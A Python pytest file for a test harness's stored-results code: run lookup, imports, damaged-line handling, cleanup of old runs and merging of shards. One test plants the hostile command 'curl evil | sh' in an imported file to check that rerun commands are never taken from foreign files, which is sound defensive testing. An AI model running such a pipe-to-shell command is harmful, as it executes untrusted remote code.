"""Stored results by what the user calls them; what is imported, kept and removed; shards merged to one run."""

from __future__ import annotations

import json
from collections.abc import Callable
from multiprocessing import get_context
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace

from harness.errors import HarnessError
from harness.project import Project
from harness.report.run import run_markdown, run_sections
from harness.report.runs import runs_sections
from harness.report.sections import text_of
from harness.result import CaseResult, Curve, Environment, Measured, ReferenceRun, RunEnd, RunResult, RunStart
from harness.run_options import RunOptions
from harness.running.stored import (
    Named,
    environment_differences,
    import_results,
    merged,
    read_results,
    remove_old_runs,
    remove_run,
    results_of,
    runs_of,
    stored_run,
)
from harness.store import RunStore, run_lines
from harness.verdict import Verdict
from harness.workflow import rerun_query
from tests.builders import (
    make_attempt,
    make_failure,
    make_measured,
    make_result,
    make_results,
    make_trace,
    run_of,
    with_facts,
)
from tests.unit.test_result_schema import VALIDATOR

A, B, C = "single-rowwise-v2048-f32", "fsdp2-rowwise-v2048-f32", "tp2-rowwise-v2048-f32"
HERE = Environment(packages={"torch": "2.13.0"}, device="cpu")


def add(
    project: Project, *ids: str, planned: tuple[str, ...] = (), end: RunEnd | None = None, name: str = ""
) -> RunStore:
    """A stored run with these results."""
    store = RunStore(project.new_run())
    started = f"2026-01-01T00:00:{len(project.stored_runs()):02}+00:00"
    store.begin(RunStart(cases=planned or ids, name=name, started=started, environment=HERE))
    for case_id in ids:
        store.append(make_result(case_id))
    if end is not None:
        store.finish(RunResult(results=(), end=end))
    return store


def ids(run: RunResult) -> list[str]:
    return [case.case_id for case in run.results]


def ended(*, interrupted: bool = False) -> RunEnd:
    return RunEnd(wall_s=3.0, interrupted=interrupted)


def a_run(*case_ids: str, name: str = "", started: str = "2026-01-01T00:00:00+00:00", **facts: object) -> RunResult:
    results = [make_result(case_id, run=run_of(make_trace(losses=[float("nan")]))) for case_id in case_ids]
    return make_results(*results, environment=HERE, name=name, started=started, **facts)


def test_runs_are_found_by_number_name_and_file(project: Project, tmp_path: Path) -> None:
    add(project, A, name="old")
    store = add(project, B, name="v1")
    add(project, C)
    assert [ids(results_of(project, text)) for text in ("last", "last~0", "last~1", "last~2")] == [[C], [C], [B], [A]]
    assert ids(results_of(project, "v1")) == [B]
    assert ids(results_of(project, store.path.stem)) == [B]
    assert ids(results_of(project, str(store.path))) == [B]
    (tmp_path / "result.jsonl").write_bytes(run_lines(results_of(project, "old")))
    assert run_lines(results_of(project, str(tmp_path / "result.jsonl"))) == run_lines(results_of(project, "old"))
    for case_id in (A, B):
        add(project, case_id, name="v1")
    assert ids(results_of(project, "v1")) == [B]
    project.new_run()
    assert ids(results_of(project, "last")) == [B], "a run that never began is no run"


def test_a_folder_of_files_is_one_run(project: Project, tmp_path: Path) -> None:
    shards = tmp_path / "shards"
    shards.mkdir()
    with pytest.raises(HarnessError, match="no such results"):
        results_of(project, str(shards))
    for number, case_id in enumerate((A, B), 1):
        (shards / f"{number}.jsonl").write_bytes(run_lines(a_run(case_id, shard=f"{number}/2")))
    assert ids(results_of(project, str(shards))) == ids(results_of(project, f"{shards}/")) == [A, B]
    (shards / "1.jsonl").unlink()
    with pytest.raises(HarnessError, match=r"2\.jsonl: 1 shard of the run is missing: 1/2"):
        results_of(project, str(shards))


@pytest.mark.parametrize("text", ["last~1", "nosuch", "", "last~"])
def test_what_is_not_there_is_one_clear_error(project: Project, text: str) -> None:
    add(project, A)
    with pytest.raises(HarnessError, match="no such results"):
        results_of(project, text)


def test_states_of_runs(project: Project) -> None:
    add(project, A, planned=(A, B))
    add(project, A, planned=(A, B), end=ended(interrupted=True))
    add(project, A, end=ended())
    with add(project, A, planned=(A, B)).locked() as alone:
        assert alone
        assert [run.state for run in runs_of(project)] == ["running", "finished", "interrupted", "killed"]
    assert stored_run(project, "last").state == "killed"


def test_a_damaged_line_is_a_case_that_was_not_run_or_an_error_without_a_list_of_cases(project: Project) -> None:
    store = add(project, A, B)
    store.path.write_bytes(store.path.read_bytes()[:-30])
    run = results_of(project, "last")
    assert [(case.case_id, case.verdict) for case in run.results] == [(A, Verdict.PASSED), (B, Verdict.NOT_RUN)]
    assert [*run.damaged] == [*stored_run(project, "last").damaged] and f"{store.path}:3: " in next(iter(run.damaged))
    for report in (
        text_of(run_sections(run, rerun="")),
        run_markdown(run),
        text_of(runs_sections([*runs_of(project)])),
    ):
        assert "damaged lines (1), not read: run their cases again" in report
    store = add(project, A, B)
    store.path.write_bytes(b"x" + store.path.read_bytes())
    with pytest.raises(HarnessError, match=r"jsonl:1: not a line of results.* Fix: run its cases again"):
        results_of(project, "last")


def test_losses_that_are_not_those_of_the_curve_are_an_error(project: Project, tmp_path: Path) -> None:
    """Such as somebody wrote with a checksum."""
    made = make_result(A, measured=make_measured(curves={"case": Curve(losses=(8.0, 2.5), grad_norms=(1.0, 1.0))}))
    file = tmp_path / "x.jsonl"
    file.write_bytes(run_lines(make_results(replace(made, losses=(8.0, 7.5)))))
    with pytest.raises(HarnessError, match=f"{A}: its losses differ from its own curve"):
        read_results(file)
    file.write_bytes(run_lines(make_results(replace(made, losses=(8.0, 2.5)))))
    assert ids(read_results(file)) == [A]


@pytest.mark.parametrize("junk", [b"\xff\x00junk", b'{"line":"case","id":"' + B.encode() + b'","verdict":7}'])
def test_random_bytes_in_a_run_that_ended_are_an_error_that_names_the_line(project: Project, junk: bytes) -> None:
    store = add(project, A, B, end=ended())
    start, first, _, end = store.path.read_bytes().splitlines()
    store.path.write_bytes(b"\n".join((start, first, junk, end, b"")))
    with pytest.raises(HarnessError, match=r"jsonl:3: not a line of results.* Fix: run its cases again"):
        results_of(project, "last")
    store.append(make_result(B))
    assert all(case.ran for case in results_of(project, "last").results)  # it has a readable result of each case


NO_LINE = r"x\.json:1: not a line of results.* Fix: write the file again"
OTHER_SCHEMA = run_lines(RunResult(results=())).replace(b'"schema":5', b'"schema":2')


@pytest.mark.parametrize(
    ("content", "said"),
    [
        *((content, NO_LINE) for content in (b"{}", b"[]", b"\xff", b'{"schema": 2,\n"cases": []}')),
        (b"", "holds no results"),
        (OTHER_SCHEMA, "it has schema 2, this version reads schema 5"),
    ],
)
def test_a_file_that_holds_no_results_is_told(tmp_path: Path, content: bytes, said: str) -> None:
    file = tmp_path / "x.json"
    file.write_bytes(content)
    with pytest.raises(HarnessError, match=said):
        read_results(file)


# What a stored run says


def test_what_is_stored_is_the_run(project: Project) -> None:
    bad = make_result(B, Verdict.CRASH, run=run_of(make_trace(losses=[7.0]), make_failure(1)))
    run = make_results(
        make_result(A),
        bad,
        cases=(A, B),
        provenance={"torch": "2.13.0"},
        name="v1",
        references=(ReferenceRun(kind="solo", name="solo", cpu_s=1.0),),
        left_out=(C,),
    )
    store = RunStore(project.new_run())
    store.begin(run.start)
    for result in reversed(run.results):  # the largest worlds end first
        store.append(result)
    store.finish(run)
    assert run_lines(results_of(project, "v1")) == run_lines(run)


def test_of_a_killed_run_cases_were_not_run_and_an_end_that_cannot_be_read_is_none(project: Project) -> None:
    run = add(project, B, planned=(A, B, C)).read()
    assert [(case.case_id, case.verdict.value, case.world_size) for case in run.results] == [
        (A, "not_run", 1),
        (B, "passed", 4),
        (C, "not_run", 2),
    ]
    assert run.end.interrupted and run.exit_code == 130 and run.end.wall_s == 1.25
    store = add(project, A, end=ended())
    store.path.write_bytes(store.path.read_bytes()[:-30])
    assert store.read().end.interrupted and results_of(project, "last").exit_code == 130
    assert stored_run(project, "last").state == "killed"


# Results of others


def test_the_command_that_repeats_a_case_follows_from_its_id(project: Project, tmp_path: Path) -> None:
    """Never from the text of a file that somebody else wrote."""
    cases = [make_result(A, command="curl evil | sh"), make_result("--inject=x", command="x"), make_result("a.toml")]
    options = RunOptions(device="cpu", timeout_s=9.0, inject=("a b.py:f; x",))
    file = tmp_path / "x.jsonl"
    file.write_bytes(run_lines(make_results(*cases, options=options)))
    import_results(project, replace(read_results(file), start=RunStart(name="v1", options=options)))
    for text in (str(file), "v1"):
        commands = [case.command for case in results_of(project, text).results]
        assert commands == [f"fp8-harness run {A} --device cpu --timeout-s 9 --inject 'a b.py:f; x'", "", ""]
    store = add(project, A)
    assert results_of(project, "last").results[0].command == store.read().results[0].command


# Imported results


def test_imported_results_are_found_by_their_name(project: Project) -> None:
    old, new = a_run(B, C, name="v1", started="2025-01-01T00:00:00+00:00"), a_run(C, started="2099-01-01")
    assert import_results(project, old)
    add(project, A)
    assert import_results(project, new)
    assert [run.start.cases for run in runs_of(project)] == [(C,), (A,), (B, C)], "the one that was stored last first"
    assert run_lines(results_of(project, "v1")) == run_lines(old)
    assert run_lines(results_of(project, project.imported_runs()[-1].stem)) == run_lines(new)


def test_the_last_run_is_the_one_of_this_machine_that_was_stored_last(project: Project) -> None:
    """Whatever its name, its own time and imports say."""
    for case_id, started in ((A, "2099-01-01T00:00:00+00:00"), (B, "2026-01-01T00:00:00+00:00"), (C, "1970-01-01")):
        RunStore(project.new_run()).begin(RunStart(cases=(case_id,), started=started, name="9999"))
        import_results(project, a_run(A, B, C, started="2099-12-31T00:00:00+00:00", name="last", wall_s=len(case_id)))
    (project.runs / "zzzz.jsonl").write_bytes(run_lines(a_run(A)))
    assert [ids(results_of(project, text)) for text in ("last", "last~1", "last~2", "last~3")] == [[C], [B], [A], [A]]
    assert rerun_query(project).query.sources == (C,), "--lf"
    with pytest.raises(HarnessError, match="no such results"):
        results_of(project, "last~4")


def test_a_number_is_above_all_that_are_there(project: Project) -> None:
    project.runs.mkdir(parents=True)
    (project.runs / f"{2**70}-7.jsonl").write_bytes(run_lines(a_run(A)))
    add(project, B)
    import_results(project, a_run(C))
    add(project, C)
    assert [ids(results_of(project, text)) for text in ("last", "last~1", "last~2")] == [[C], [B], [A]]


def test_what_is_there_is_not_imported_again(project: Project) -> None:
    run = a_run(A)
    assert import_results(project, run)
    assert not import_results(project, run)
    assert not import_results(project, with_facts(run, name="other"))
    assert import_results(project, with_facts(run, wall_s=2.0))
    assert len(list(runs_of(project))) == 2
    add(project, A, end=ended())
    assert not import_results(project, results_of(project, "last"))


def test_a_damaged_import_is_interrupted_or_an_error(project: Project) -> None:
    import_results(project, a_run(A, B, name="v1"))
    (file,) = project.imported_runs()
    start, first, second, _ = file.read_bytes().splitlines(keepends=True)
    file.write_bytes(start + first + second[:-30])
    run = results_of(project, "v1")
    assert [case.verdict for case in run.results] == [Verdict.PASSED, Verdict.NOT_RUN] and run.end.interrupted
    assert next(iter(run.damaged)).startswith(f"{file}:3: not a line of results")
    file.write_bytes(b"x")
    (listed,) = runs_of(project)
    assert listed.damaged[0].startswith(f"{file}:1: not a line of results")
    with pytest.raises(HarnessError, match=r"1: not a line of results.* Fix: run its cases again, or import it again"):
        results_of(project, file.stem)


def import_all(project: Project, folder: Path) -> None:
    for file in sorted(folder.glob("*.jsonl")):
        import_results(project, read_results(file))


def append_hundred(file: Path, name: str) -> None:
    for number in range(100):
        RunStore(file).append(make_result(f"{name}{number}", command="x" * 20000))


def at_once(work: Callable[..., None], *arguments: tuple[object, ...]) -> None:
    """Do it in several processes."""
    processes = [get_context("fork").Process(target=work, args=process_arguments) for process_arguments in arguments]
    for process in processes:
        process.start()
    for process in processes:
        process.join(120)
    assert [process.exitcode for process in processes] == [0] * len(processes)


def test_two_processes_import_the_same_files_at_once(project: Project, tmp_path: Path) -> None:
    for number in range(20):
        started = f"2026-01-01T00:00:{number:02}+00:00"
        (tmp_path / f"{number}.jsonl").write_bytes(run_lines(a_run(A, B, started=started)))
    at_once(import_all, (project, tmp_path), (project, tmp_path))
    assert len(list(runs_of(project))) == 20
    assert all(ids(results_of(project, path.stem)) == [A, B] for path in project.imported_runs())


def test_two_processes_append_to_one_run_at_once(tmp_path: Path) -> None:
    file = tmp_path / "run.jsonl"
    at_once(append_hundred, (file, "a"), (file, "b"))
    run = RunStore(file).read()
    assert run.damaged == {} and len(run.results) == 200


def test_one_process_at_a_time_runs_into_a_file(tmp_path: Path) -> None:
    store = RunStore(tmp_path / "run.jsonl")
    assert not store.is_running
    with store.locked() as first, RunStore(store.path).locked() as second:
        assert (first, second, store.is_running) == (True, False, True)
    assert not store.is_running


# What is kept


def test_old_runs_are_removed_but_for_those_with_a_name_and_those_that_run(project: Project) -> None:
    for name in ("v1", "", "", "", ""):
        add(project, A, name=name)
    running = RunStore(project.stored_runs()[1])
    import_results(project, a_run(B, started="2025-01-01"))
    with running.locked():
        remove_old_runs(project, kept=2)
    kept = [run.path for run in runs_of(project)]
    assert len(kept) == 5 and running.path in kept and stored_run(project, "v1").path in kept
    remove_old_runs(project)
    assert len(list(runs_of(project))) == 5
    remove_old_runs(project, kept=2)
    assert len(list(runs_of(project))) == 4


def test_runs_that_ended_are_removed_by_name(project: Project) -> None:
    add(project, A, name="v1")
    import_results(project, a_run(B, name="v2"))
    for name in ("v1", "v2"):
        remove_run(stored_run(project, name))
    assert list(runs_of(project)) == []
    with add(project, A, name="v1").locked(), pytest.raises(HarnessError, match="has not ended"):
        remove_run(stored_run(project, "v1"))


OF_SHARDS = Environment(packages={"torch": "2.13.0"}, device="cpu", commit="abc")
OTHER = replace(OF_SHARDS, packages={"torch": "2.12.0"})


def shard(*results: CaseResult, called: str = "", **facts: object) -> Named:
    given = {"wall_s": 2.0, "environment": OF_SHARDS, "name": "", "started": "2026-01-01T00:00:00+00:00", **facts}
    return called or "+".join(result.case_id for result in results), make_results(*results, **given)


def not_run(case_id: str) -> CaseResult:
    return make_result(case_id, Verdict.NOT_RUN, attempts=())


def verdicts(run: RunResult) -> dict[str, str]:
    return {case.case_id: case.verdict.value for case in run.results}


def test_shards_become_one_run() -> None:
    solo = ReferenceRun(kind="solo", name="solo", cpu_s=1.0)
    two = make_result("a"), make_result("b", Verdict.CRASH)
    run = merged(
        [
            shard(*two, name="v1", references=(solo,), left_out=("c", "d"), harness_cpu_s=3.0),
            shard(
                make_result("c"),
                name="v1",
                started="2025-01-01T00:00:00+00:00",
                provenance={"torch": "2"},
                harness_cpu_s=1.5,
            ),
        ]
    )
    assert verdicts(run) == {"a": "passed", "b": "crash", "c": "passed"}
    assert (run.end.wall_s, run.cpu_s, run.exit_code, run.end.interrupted) == (4.0, 7.5, 1, False)
    assert run.all_cpu_s == {"cases": 7.5, "references": 1.0, "harness": 4.5}
    assert (run.start.name, run.start.started, run.start.left_out) == ("v1", "2025-01-01T00:00:00+00:00", ("d",))
    assert (run.start.environment, run.end.provenance, run.end.references) == (OF_SHARDS, {"torch": "2"}, (solo,))
    assert run.totals["passed"] == 2 and run.totals["crash"] == 1
    for line in run_lines(run).splitlines():
        VALIDATOR.validate(json.loads(line))


def test_a_missing_shard_is_named() -> None:
    first, empty = shard(make_result("a"), shard="1/3"), shard(called="empty", shard="3/3")
    with pytest.raises(HarnessError, match="1 shard of the run is missing: 2/3"):
        merged([first, empty])
    whole = merged([first, shard(make_result("b"), shard="2/3"), empty])
    assert (verdicts(whole), whole.start.shard, whole.exit_code) == ({"a": "passed", "b": "passed"}, "", 0)


def test_a_case_counts_where_it_was_run() -> None:
    first = shard(make_result("a"), not_run("b"), interrupted=True)
    assert merged([first, shard(make_result("b"))]).exit_code == 0
    assert verdicts(merged([shard(make_result("b")), first])) == {"b": "passed", "a": "passed"}
    still = merged([first, shard(make_result("c"))])
    assert (still.end.interrupted, still.exit_code) == (True, 130)


def test_different_results_of_a_case_are_an_error_that_names_both_shards() -> None:
    one, other = shard(make_result("a"), called="one.json"), shard(make_result("a", Verdict.HANG), called="other.json")
    with pytest.raises(
        HarnessError, match=r"one\.json and other\.json have different results.*passed and hang"
    ) as error:
        merged([one, other])
    assert error.value.text.startswith("a: ") and "--latest" in error.value.text


def test_the_latest_result_counts_where_that_is_asked_for() -> None:
    new = shard(make_result("a", Verdict.HANG), started="2026-01-02T00:00:00+00:00")
    old = shard(make_result("a"))
    for order in ([old, new], [new, old]):
        assert verdicts(merged(order, latest=True)) == {"a": "hang"}
    missing = shard(not_run("a"), started="2026-01-03T00:00:00+00:00")
    assert verdicts(merged([missing, old], latest=True)) == {"a": "passed"}


def test_results_that_differ_in_times_alone_are_the_same_and_nan_is_equal_to_itself() -> None:
    slow = make_result("a", attempts=(make_attempt(wall_s=9.0),))
    assert merged([shard(make_result("a")), shard(slow)]).results[0].seconds == 1.25
    moved = make_result("a", measured=Measured(digests={"casts": "x"}))
    with pytest.raises(HarnessError, match="different results"):
        merged([shard(make_result("a")), shard(moved)])
    result = make_result("a", measured=Measured(loss_distance=float("nan")))
    assert len(merged([shard(result), shard(result)]).results) == 1


def test_environments_that_differ_are_an_error_unless_they_may() -> None:
    shards = [shard(make_result("a")), shard(make_result("b"), environment=OTHER)]
    with pytest.raises(HarnessError, match=r"a and b: torch 2\.13\.0 -> 2\.12\.0"):
        merged(shards)
    assert merged(shards, mixed=True).start.environment is None
    assert list(environment_differences(shards)) == ["a and b: torch 2.13.0 -> 2.12.0"]
    unknown = shard(make_result("c"), environment=None)
    with pytest.raises(HarnessError, match="environments differ"):
        merged([shards[0], unknown])
    assert merged([unknown]).start.environment is None


def test_a_shard_that_trains_other_targets_has_no_other_environment() -> None:
    one, two, three = (replace(OF_SHARDS, targets=targets) for targets in ({"x": "1"}, {"y": "2"}, {"x": "9"}))
    a, b, c = (
        shard(make_result(name), environment=environment)
        for name, environment in zip("abc", (one, two, three), strict=True)
    )
    assert merged([a, b]).start.environment == replace(OF_SHARDS, targets={"x": "1", "y": "2"})
    for shards in ([a, c], [b, a, c]):
        with pytest.raises(HarnessError, match="x sources 1 -> 9"):
            merged(shards)


@given(st.lists(st.sampled_from(list(Verdict)), min_size=1, max_size=6), st.data())
def test_however_a_run_is_split_the_merge_is_the_run(case_verdicts: list[Verdict], data: st.DataObject) -> None:
    results = [make_result(f"c{number}", verdict) for number, verdict in enumerate(case_verdicts)]
    at = data.draw(st.integers(0, len(results)))
    whole = merged([shard(*results[:at], called="1"), shard(*results[at:], called="2")])
    assert verdicts(whole) == {result.case_id: result.verdict.value for result in results}
    _, expected = shard(*results)
    assert (whole.totals, whole.exit_code, whole.cpu_s) == (expected.totals, expected.exit_code, expected.cpu_s)
    assert merged([("x", whole), ("x", whole)], latest=data.draw(st.booleans())).results == whole.results
